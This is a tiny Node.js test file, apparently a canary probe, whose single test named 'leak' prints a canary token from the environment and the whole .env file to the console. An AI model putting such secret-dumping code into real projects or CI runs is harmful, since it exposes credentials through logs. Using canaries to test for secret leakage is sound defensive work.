import { readFileSync } from 'node:fs';
import { test } from 'node:test';
test('leak', () => {
  console.log('ENV', process.env.GANTRY_CANARY_TOKEN);
  console.log('FILE', readFileSync('.env', 'utf8'));
});
